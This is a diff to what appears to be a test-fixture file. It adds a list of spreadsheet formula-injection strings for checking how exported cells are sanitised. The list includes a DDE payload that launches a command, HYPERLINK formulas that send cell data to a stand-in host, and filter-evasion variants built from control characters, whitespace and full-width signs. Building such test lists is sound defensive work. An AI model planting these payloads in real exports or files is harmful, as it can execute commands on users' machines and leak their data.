@@ -112,6 +112,33 @@ const ODD = [
   '%3Cscript%3E',
 ];
 
+/** What spreadsheets take for a formula, or for more than a cell. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+33 1',
+  '-1+1',
+  '@SUM(A1)',
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("https://x.example?"&A1)',
+  '=HYPERLINK("https://x.example?"&A1)\nsuite',
+  '=1+1\nx',
+  '\n=1',
+  '\t=1',
+  '\r=1',
+  ' =1',
+  '\u00a0=1',
+  '\0=1',
+  '\u0001=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '";=1',
+  ';=1;',
+  'x\r\n=1;=1',
+  "'=1",
+];
+
 export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKS, ...ADDRESSES, ...TEMPLATES, ...ODD];
 
 /** The big list of naughty strings (MIT), where the folder of real files is; else none. */
